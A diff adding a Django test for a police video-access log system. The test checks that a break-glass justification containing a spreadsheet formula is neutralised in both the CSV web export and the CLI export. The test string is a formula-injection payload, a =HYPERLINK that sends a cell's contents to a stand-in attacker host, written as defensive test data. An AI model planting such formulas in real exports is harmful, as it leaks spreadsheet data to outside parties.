@@ -260,3 +260,32 @@ def test_linkage_commands_register_certify_sweep_report_export_and_verify(  # ty
     call_command("linkage", "verify-log", stdout=out)
     assert "intact" in out.getvalue()
     assert VideoAccessEntry.objects.count() == 1
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"근거 보기") 용의자 도주 중, 센터 응답 없음'
+
+
+def _no_live_formula(rows: list[list[str]]) -> bool:
+    return not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for row in rows for cell in row)
+
+
+def test_a_formula_in_a_break_glass_justification_is_text_in_both_exports(  # type: ignore[no-untyped-def]
+    november, scene, police_agency, police_officer, platform_operator, tenant_a
+) -> None:
+    response = signed_in(police_officer).post(
+        reverse("operations:agency_break_glass"),
+        {"external_id": scene["incident"].external_id, "justification": FORMULA},
+    )
+    assert response.status_code == 302
+    export = signed_in(platform_operator).get(
+        reverse("operations:video_log_csv"), {"month": "2026-11"}
+    )
+    text = b"".join(export.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert _no_live_formula(rows)
+    assert "'" + FORMULA in [r[15] for r in rows[1:]]
+    out = io.StringIO()
+    call_command("linkage", "export-log", "--month", "2026-11", "--tenant", tenant_a.code,
+                 stdout=out)  # fmt: skip
+    cli_rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert _no_live_formula(cli_rows) and "'" + FORMULA in [r[15] for r in cli_rows[1:]]
